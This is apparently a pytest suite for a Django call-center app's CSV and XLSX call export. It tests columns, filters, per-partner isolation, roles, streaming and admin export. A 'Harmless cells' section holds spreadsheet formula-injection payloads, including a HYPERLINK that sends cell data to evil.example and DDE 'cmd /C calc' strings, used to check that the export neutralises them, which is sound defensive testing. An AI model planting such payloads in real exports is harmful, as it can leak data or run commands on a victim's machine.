"""Calls out as CSV and XLSX: from the partner API (the list's filters, each partner its
own calls, streamed) and from the admin's list (as filtered there)."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from asgiref.sync import async_to_sync
from django.contrib.auth.models import Group
from django.db import connection
from django.test import AsyncClient
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.translation import gettext
from rest_framework.test import APIClient
from rest_framework_simplejwt.tokens import AccessToken

from callcenter import exports
from calls.models import AnsweredBy, Call, CallDirection, Turn
from campaigns.models import Campaign, Contact, Partner
from campaigns.services import create_api_key
from templates.models import CallTemplate
from tests.factories import CallFactory, CampaignFactory, TurnFactory

pytestmark = pytest.mark.django_db

URL = "/api/v1/calls/export/"
ENGLISH = {"HTTP_ACCEPT_LANGUAGE": "en"}
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def template(partner: Partner, name: str, fields: dict[str, Any], **values: Any) -> CallTemplate:
    return CallTemplate.objects.create(
        partner=partner,
        name=name,
        greeting="Hola {{ first_name }}. Le llamamos de {{ partner }}.",
        outcome_schema={"type": "object", "properties": fields},
        **values,
    )


@pytest.fixture
def spring(api_partner: Partner) -> Campaign:
    script = template(
        api_partner,
        "Citas",
        {"attending": {"type": "boolean"}, "slot": {"type": "string"}},
        variables={"first_name": "Lucía"},
    )
    return CampaignFactory(partner=api_partner, name="Spring", template=script)


@pytest.fixture
def autumn(api_partner: Partner) -> Campaign:
    script = template(api_partner, "Encuesta", {"rating": {"type": "integer"}})
    return CampaignFactory(partner=api_partner, name="Autumn", template=script)


@pytest.fixture
def rival(other_api_partner: Partner) -> Campaign:
    return CampaignFactory(partner=other_api_partner, name="Rival")


def completed_call(campaign: Campaign, *, variables: dict | None = None, **fields: Any) -> Call:
    """A completed, free call to a new contact of ``campaign``, known by the partner's id."""
    return CallFactory(
        contact__campaign=campaign,
        contact__from_crm=True,
        contact__variables=variables or {},
        **{
            "status": Call.Status.COMPLETED,
            "price_status": Call.PriceStatus.NOT_CHARGED,
            **fields,
        },
    )


def say(call: Call, *lines: tuple[str, str]) -> None:
    start = timezone.now()
    Turn.objects.bulk_create(
        Turn(
            call=call,
            sequence=index,
            role=role,
            text=text,
            started_at=start + datetime.timedelta(seconds=index),
        )
        for index, (role, text) in enumerate(lines, 1)
    )


def body(response) -> bytes:
    assert response.streaming
    return b"".join(response.streaming_content)


def csv_rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.content if not response.streaming else ""
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(body(response).decode())))


def xlsx_sheets(response) -> list[list[list[openpyxl.cell.Cell]]]:
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    workbook = openpyxl.load_workbook(io.BytesIO(body(response)))
    return [list(sheet.iter_rows()) for sheet in workbook.worksheets]


def role_client(django_user_model, role: str | None) -> APIClient:
    """An API client of a staff user in ``role`` (none: in no role), with a JWT."""
    user = django_user_model.objects.create_user(f"staff-{role}", password="pw", is_staff=True)
    if role:
        user.groups.add(Group.objects.get(name=role))
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {AccessToken.for_user(user)}")
    return client


# --- Content -------------------------------------------------------------------------------


def test_export_has_a_row_per_call_newest_first_with_each_outcome_field_and_its_cost(
    api_client, spring, autumn, settings
) -> None:
    # given an answered, priced call of one campaign and an unanswered one of another,
    # whose templates ask for different outcome fields
    first = completed_call(
        spring,
        variables={"first_name": "Lucía", "city": "Soria"},
        answered_by=AnsweredBy.HUMAN,
        dialed_at=timezone.now() - datetime.timedelta(minutes=2),
        answered_at=timezone.now() - datetime.timedelta(minutes=1),
        ended_at=timezone.now(),
        duration_seconds=61,
        outcome={"attending": True, "slot": "lunes 10:00", "extraction_raw": "{...}"},
        summary="Vendrá el lunes.",
        price=Decimal("0.0125"),
        price_unit=settings.COST_CURRENCY,
        price_status=Call.PriceStatus.KNOWN,
    )
    second = completed_call(autumn, status=Call.Status.NO_ANSWER)

    # when the partner exports its calls
    rows = csv_rows(api_client.get(URL, **ENGLISH))

    # then a row per call, newest first, with a column for each field either template
    # asks for, each contact variable, and the cost in parts; the private raw answer and
    # the transcript (not asked for) are left out, and so is the partner (it is its own)
    assert [row["call id"] for row in rows] == [str(second.pk), str(first.pk)]
    headers = list(rows[0])
    spring_fields = [headers.index("outcome: attending"), headers.index("outcome: slot")]
    assert max(spring_fields) < headers.index("outcome: rating")  # by campaign
    assert headers.index("variable: first_name") < headers.index("variable: city")
    assert not {"outcome: extraction_raw", "transcript", "partner"} & set(headers)
    answered = rows[1]
    assert answered["campaign id"] == str(spring.pk)
    assert answered["campaign"] == "Spring"
    assert answered["contact id"] == str(first.contact_id)
    assert answered["external id"] == first.contact.external_id
    assert answered["phone"] == "'" + first.to_number  # made harmless, still readable
    assert answered["variable: first_name"] == "Lucía"
    assert answered["variable: city"] == "Soria"
    assert answered["status"] == "completed"
    assert answered["answered by"] == "human"
    assert answered["started at (UTC)"] == first.dialed_at.astimezone(
        datetime.UTC
    ).isoformat().replace("+00:00", "Z")
    assert answered["duration (s)"] == "61"
    assert answered["outcome: attending"] == "true"
    assert answered["outcome: slot"] == "lunes 10:00"
    assert answered["outcome: rating"] == ""
    assert answered["summary"] == "Vendrá el lunes."
    assert Decimal(answered["telephony cost"]) == Decimal("0.0125")
    assert Decimal(answered["total cost"]) == Decimal("0.0125")
    assert answered["currency"] == settings.COST_CURRENCY
    assert answered["cost pending"] == ""
    unanswered = rows[0]
    assert unanswered["status"] == "no-answer"
    assert unanswered["outcome: attending"] == ""
    assert unanswered["started at (UTC)"] == ""


def test_export_names_each_calls_direction_the_contacts_number_and_ours(api_client, spring) -> None:
    # given a call we made to a contact, and the call the contact made back to our number
    ours = completed_call(spring)
    back = CallFactory(
        campaign=spring,
        contact=ours.contact,
        direction=CallDirection.INBOUND,
        from_number=ours.to_number,
        to_number=ours.from_number,
        status=Call.Status.COMPLETED,
        price_status=Call.PriceStatus.NOT_CHARGED,
    )

    rows = {row["call id"]: row for row in csv_rows(api_client.get(URL, **ENGLISH))}

    assert (rows[str(ours.pk)]["direction"], rows[str(back.pk)]["direction"]) == (
        "outbound",
        "inbound",
    )
    # the contact's number in "phone" and ours in "our number", whichever way it went
    for call in (ours, back):
        assert rows[str(call.pk)]["phone"] == "'" + ours.to_number
        assert rows[str(call.pk)]["our number"] == "'" + ours.from_number
    assert rows[str(back.pk)]["attempt"] == ""


def test_export_says_which_cost_is_still_pending(api_client, spring) -> None:
    completed_call(spring, status=Call.Status.IN_PROGRESS, price_status=Call.PriceStatus.PENDING)

    [row] = csv_rows(api_client.get(URL, **ENGLISH))

    assert row["cost pending"] == "telephony speech"


def test_export_keeps_outcome_fields_no_template_asks_for_any_more(api_client, spring) -> None:
    # given a call whose outcome has a field the template no longer asks for
    completed_call(
        spring, outcome={"legacy": ["a", "b"], "callback_at": "2026-01-02T10:00:00+01:00"}
    )

    [row] = csv_rows(api_client.get(URL, **ENGLISH))

    assert row["outcome: legacy"] == '["a", "b"]'
    assert row["outcome: callback_at"] == "2026-01-02T10:00:00+01:00"


def test_export_adds_the_transcript_when_asked(api_client, spring) -> None:
    call = completed_call(spring)
    say(call, (Turn.Role.AGENT, "Hola, ¿vendrá?"), (Turn.Role.CALLER, "Sí."))
    TurnFactory(call=call, sequence=3, role=Turn.Role.CALLER, digits="1", started_at=timezone.now())

    [plain] = csv_rows(api_client.get(URL, **ENGLISH))
    [with_transcript] = csv_rows(api_client.get(URL, {"transcript": "1"}, **ENGLISH))

    assert "transcript" not in plain
    assert (
        with_transcript["transcript"] == "Agent: Hola, ¿vendrá?\nCaller: Sí.\nCaller: (pressed 1)"
    )


def test_export_refuses_a_transcript_flag_it_cannot_read(api_client, spring) -> None:
    response = api_client.get(URL, {"transcript": "perhaps"})

    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert [error["field"] for error in response.json()["errors"]] == ["transcript"]


def test_export_headers_are_in_the_requests_language(api_client, spring) -> None:
    completed_call(spring)

    english = next(csv.reader(io.StringIO(body(api_client.get(URL, **ENGLISH)).decode())))
    spanish = next(csv.reader(io.StringIO(body(api_client.get(URL)).decode())))

    # (the variables' and outcome fields' headers hold their names: left out here)
    fixed = [(en, es) for en, es in zip(english, spanish, strict=True) if ": " not in en]
    with translation.override("es"):
        assert [es for _en, es in fixed] == [gettext(en) for en, _es in fixed]
        assert gettext("status") in spanish  # one the catalogue already has


# --- Filters and tenants --------------------------------------------------------------------


def test_export_takes_the_lists_filters(api_client, spring, autumn) -> None:
    # given calls of two campaigns, in several statuses, outcomes and times
    busy = completed_call(spring, status=Call.Status.BUSY)
    attending = completed_call(spring, outcome={"attending": True})
    old = completed_call(autumn)
    Call.objects.filter(pk=old.pk).update(created_at=timezone.now() - datetime.timedelta(days=9))
    later = (timezone.now() - datetime.timedelta(days=1)).isoformat()

    def exported(**query: Any) -> list[int]:
        return [int(row["call id"]) for row in csv_rows(api_client.get(URL, query, **ENGLISH))]

    # then each filter of the list selects the same calls here
    assert exported(status="busy") == [busy.pk]
    assert exported(campaign=spring.pk) == [attending.pk, busy.pk]
    assert exported(outcome="attending") == [attending.pk]
    assert exported(created_before=later) == [old.pk]
    assert exported(status=["busy", "completed"], campaign=spring.pk) == [attending.pk, busy.pk]


def test_export_gives_each_partner_only_its_own_calls(
    api_client, other_api_client, spring, rival
) -> None:
    # given a call of each partner
    own = completed_call(spring, variables={"secret": "ours"})
    theirs = completed_call(rival, variables={"their_secret": "theirs"}, outcome={"their_field": 1})

    # when each partner exports
    ours = csv_rows(api_client.get(URL, **ENGLISH))
    others = csv_rows(other_api_client.get(URL, **ENGLISH))

    # then each gets its own calls, and not even the names of the other's fields
    assert [row["call id"] for row in ours] == [str(own.pk)]
    assert [row["call id"] for row in others] == [str(theirs.pk)]
    assert not any("their" in header for header in ours[0])
    # and another partner's campaign is no campaign to filter by
    response = api_client.get(URL, {"campaign": rival.pk})
    assert response.status_code == 400
    assert [error["field"] for error in response.json()["errors"]] == ["campaign"]


def test_staff_export_every_partners_calls_naming_the_partner(
    staff_api_client, spring, rival
) -> None:
    completed_call(spring)
    completed_call(rival)

    rows = csv_rows(staff_api_client.get(URL, **ENGLISH))

    assert sorted(row["partner"] for row in rows) == ["Initech", "Umbrella"]


def test_a_viewer_may_export_and_staff_in_no_role_may_not(
    django_user_model, spring, migrated_roles
) -> None:
    completed_call(spring)

    viewer = role_client(django_user_model, "viewer").get(URL)
    nobody = role_client(django_user_model, None).get(URL)

    assert len(csv_rows(viewer)) == 1
    assert nobody.status_code == 403
    assert nobody["Content-Type"] == "application/json"
    assert "calls.view_call" in nobody.json()["message"]


@pytest.fixture
def migrated_roles(db) -> None:
    assert Group.objects.filter(name="viewer").exists()  # made by the roles migration


def test_export_without_credentials_is_refused_in_json(client, spring) -> None:
    response = client.get(URL)

    assert response.status_code == 401
    assert response["Content-Type"] == "application/json"


# --- Formats --------------------------------------------------------------------------------


def test_export_file_is_an_attachment_named_for_its_scope_and_day(api_client, spring) -> None:
    completed_call(spring)

    response = api_client.get(URL, {"campaign": spring.pk})
    body(response)

    day = timezone.now().astimezone(datetime.UTC).date().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="calls-initech-campaign-{spring.pk}-{day}.csv"'
    )
    assert response["Cache-Control"] == "private, no-store"


def test_export_format_is_chosen_by_parameter_suffix_or_accept(api_client, spring) -> None:
    completed_call(spring)

    by_parameter = api_client.get(URL, {"format": "xlsx"})
    by_suffix = api_client.get("/api/v1/calls/export.xlsx")
    by_accept = api_client.get(URL, HTTP_ACCEPT=XLSX)
    by_default = api_client.get(URL, HTTP_ACCEPT="*/*")

    for response in (by_parameter, by_suffix, by_accept):
        assert response["Content-Type"] == XLSX
        assert response["Content-Disposition"].endswith('.xlsx"')
        assert len(xlsx_sheets(response)[0]) == 2
    assert by_default["Content-Type"] == "text/csv; charset=utf-8"


def test_export_answers_a_format_it_does_not_offer_in_json(api_client, spring) -> None:
    unknown = api_client.get(URL, {"format": "pdf"})
    unacceptable = api_client.get(URL, HTTP_ACCEPT="application/json")

    assert unknown.status_code == 400
    assert unknown["Content-Type"] == "application/json"
    assert [error["field"] for error in unknown.json()["errors"]] == ["format"]
    assert unacceptable.status_code == 406
    assert unacceptable["Content-Type"] == "application/json"
    assert unacceptable.json()["code"] == "not_acceptable"


def test_export_as_xlsx_is_readable_with_typed_cells(api_client, spring, settings) -> None:
    call = completed_call(
        spring,
        variables={"first_name": "Lucía"},
        outcome={"attending": True},
        dialed_at=timezone.now(),
        duration_seconds=42,
        price=Decimal("0.0125"),
        price_unit=settings.COST_CURRENCY,
        price_status=Call.PriceStatus.KNOWN,
    )

    [rows] = xlsx_sheets(api_client.get(URL, {"format": "xlsx"}, **ENGLISH))

    headers = [cell.value for cell in rows[0]]
    row = dict(zip(headers, rows[1], strict=True))
    assert row["call id"].value == call.pk
    assert row["phone"].value == call.to_number  # text, as it is: a cell is no formula
    assert row["phone"].data_type == "s"
    assert row["variable: first_name"].value == "Lucía"
    assert row["outcome: attending"].value is True
    assert row["duration (s)"].value == 42
    assert row["telephony cost"].value == pytest.approx(0.0125)
    started = call.dialed_at.astimezone(datetime.UTC).replace(tzinfo=None)
    assert abs(row["started at (UTC)"].value - started) < datetime.timedelta(milliseconds=1)


# --- Harmless cells -------------------------------------------------------------------------

HOSTILE = {
    "first_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "tab": "\t=1+1",
    "carriage": "\r=1+1",
    "error": "#N/A",
    "control": "bell\x07here",
}


def hostile_call(campaign: Campaign) -> Call:
    call = completed_call(
        campaign,
        variables=HOSTILE,
        outcome={"slot": "=cmd|' /C calc'!A0", "attending": "-1"},
        summary="=1+1",
        error_message="@here",
    )
    Contact.objects.filter(pk=call.contact_id).update(external_id="-crm")
    say(call, (Turn.Role.CALLER, "=1+1"))
    return call


def test_export_as_csv_makes_every_formula_harmless(api_client, spring) -> None:
    hostile_call(spring)

    response = api_client.get(URL, {"transcript": "1"}, **ENGLISH)
    lines = list(csv.reader(io.StringIO(body(response).decode())))

    # then no cell of the file starts as a formula would: each such one gets a quote
    cells = [cell for line in lines for cell in line]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    row = dict(zip(lines[0], lines[1], strict=True))
    assert row["variable: first_name"] == "'" + HOSTILE["first_name"]
    assert row["variable: tab"] == "'\t=1+1"
    assert row["variable: carriage"] == "'\r=1+1"
    assert row["variable: minus"] == "'-2+3"
    assert row["external id"] == "'-crm"
    assert row["outcome: slot"] == "'=cmd|' /C calc'!A0"
    assert row["summary"] == "'=1+1"
    assert row["error"] == "'@here"
    assert row["transcript"] == "Caller: =1+1"  # the cell starts with its speaker


def test_export_as_xlsx_writes_every_text_as_text(api_client, spring) -> None:
    hostile_call(spring)

    [rows] = xlsx_sheets(api_client.get(URL, {"format": "xlsx", "transcript": "1"}, **ENGLISH))

    # then no cell is a formula or an error, and each text is kept as it was written
    assert not [cell for row in rows for cell in row if cell.data_type in ("f", "e")]
    row = dict(zip([cell.value for cell in rows[0]], rows[1], strict=True))
    assert row["variable: first_name"].value == HOSTILE["first_name"]
    assert row["variable: first_name"].data_type == "s"
    assert row["variable: error"].value == "#N/A"
    assert row["variable: plus"].value == "+1+1"
    assert row["outcome: slot"].value == "=cmd|' /C calc'!A0"
    assert row["summary"].value == "=1+1"
    # XML cannot carry most control characters: they are left out
    assert row["variable: control"].value == "bellhere"


# --- Streaming ------------------------------------------------------------------------------


def queries_of_export(client: APIClient, query: dict[str, Any]) -> int:
    client.get(URL)  # the API key's "last used" moment is written once a minute
    with CaptureQueriesContext(connection) as captured:
        response = client.get(URL, query)
        body(response)
    assert response.status_code == 200
    return len(captured.captured_queries)


def test_export_reads_calls_in_chunks_of_a_few_queries_each(
    api_client, spring, monkeypatch
) -> None:
    # given calls with turns, read 4 at a time
    monkeypatch.setattr(exports, "CHUNK_ROWS", 4)

    def add_calls(count: int) -> None:
        for _n in range(count):
            say(completed_call(spring), (Turn.Role.AGENT, "Hola."), (Turn.Role.CALLER, "Sí."))

    # when one chunk is exported, then three, then four
    add_calls(4)
    one_chunk = queries_of_export(api_client, {"transcript": "1"})
    add_calls(8)
    three_chunks = queries_of_export(api_client, {"transcript": "1"})
    add_calls(3)
    four_chunks = queries_of_export(api_client, {"transcript": "1"})

    # then each chunk costs the same few queries (its costs and its transcripts),
    # whatever the number of its calls
    per_chunk = (three_chunks - one_chunk) // 2
    assert 2 <= per_chunk <= 4
    assert three_chunks == one_chunk + 2 * per_chunk
    assert four_chunks == three_chunks + per_chunk


def test_export_is_streamed_under_asgi_one_chunk_at_a_time(api_partner, spring, monkeypatch):
    # given more calls than a chunk and than a flush
    monkeypatch.setattr(exports, "CHUNK_ROWS", 2)
    monkeypatch.setattr(exports, "FLUSH_BYTES", 1)
    calls = [completed_call(spring) for _n in range(5)]
    _api_key, key = create_api_key(partner=api_partner, name="ASGI")

    async def export() -> tuple[Any, list[bytes]]:
        headers = {"Authorization": f"Api-Key {key}", "Accept-Language": "en"}
        response = await AsyncClient().get(URL, headers=headers)
        return response, [chunk async for chunk in response.streaming_content]

    # when the export is served as the ASGI server serves it
    response, chunks = async_to_sync(export)()

    # then the body comes as the rows are read, not read whole first
    assert response.is_async
    assert len(chunks) == 1 + len(calls)  # the headers, then a row at a time
    rows = list(csv.DictReader(io.StringIO(b"".join(chunks).decode())))
    assert [int(row["call id"]) for row in rows] == [call.pk for call in reversed(calls)]


# --- The admin ------------------------------------------------------------------------------


@pytest.fixture
def viewer(client, django_user_model, migrated_roles):
    user = django_user_model.objects.create_user("viewer", password="pw", is_staff=True)
    user.groups.add(Group.objects.get(name="viewer"))
    client.force_login(user)
    return client


ADMIN_EXPORT = "/admin/calls/call/export/"


def test_admin_call_list_offers_the_export_of_what_it_shows(viewer, spring) -> None:
    response = viewer.get(reverse("admin:calls_call_changelist"), {"status__exact": "busy"})

    page = response.content.decode()
    assert f'action="{ADMIN_EXPORT}"' in page
    assert '<input type="hidden" name="status__exact" value="busy">' in page
    assert 'name="transcript"' in page


def test_admin_export_takes_the_lists_filters_search_and_order(viewer, spring, rival) -> None:
    # given calls of two partners
    busy = completed_call(spring, status=Call.Status.BUSY, duration_seconds=9)
    other_busy = completed_call(rival, status=Call.Status.BUSY, duration_seconds=5)
    completed_call(spring)

    def exported(query: dict[str, Any]) -> list[int]:
        response = viewer.get(ADMIN_EXPORT, query, **ENGLISH)
        return [int(row["call id"]) for row in csv_rows(response)]

    # then a viewer exports what the list shows, as it is filtered, searched and ordered
    assert exported({"status__exact": "busy"}) == [other_busy.pk, busy.pk]  # newest first
    assert exported({"status__exact": "busy", "o": "-7"}) == [busy.pk, other_busy.pk]  # longest
    assert exported({"q": busy.to_number}) == [busy.pk]
    assert exported({"campaign__partner__id__exact": rival.partner_id}) == [other_busy.pk]


def test_admin_export_as_xlsx_with_transcripts_names_the_partner(viewer, spring) -> None:
    call = completed_call(spring)
    say(call, (Turn.Role.AGENT, "Hola."))

    response = viewer.get(ADMIN_EXPORT, {"format": "xlsx", "transcript": "1"}, **ENGLISH)

    [rows] = xlsx_sheets(response)
    row = {header.value: cell.value for header, cell in zip(rows[0], rows[1], strict=True)}
    assert row["partner"] == "Initech"
    assert row["transcript"] == "Agent: Hola."
    assert response["Content-Disposition"].startswith('attachment; filename="calls-')


def test_admin_export_of_a_filter_the_list_does_not_know_goes_back_to_the_list(viewer) -> None:
    response = viewer.get(ADMIN_EXPORT, {"nonsense__exact": "1"})

    assert response.status_code == 302
    assert response["Location"] == reverse("admin:calls_call_changelist") + "?e=1"


def test_admin_export_is_for_staff_who_may_view_calls(client, django_user_model) -> None:
    user = django_user_model.objects.create_user("nobody", password="pw", is_staff=True)
    client.force_login(user)

    assert client.get(ADMIN_EXPORT).status_code == 403


def test_export_answers_a_method_it_does_not_take_in_json(api_client) -> None:
    for response in (api_client.post(URL), api_client.generic("TRACE", URL)):
        assert response.status_code == 405
        assert response["Content-Type"] == "application/json"
        assert response.json()["code"] == "method_not_allowed"
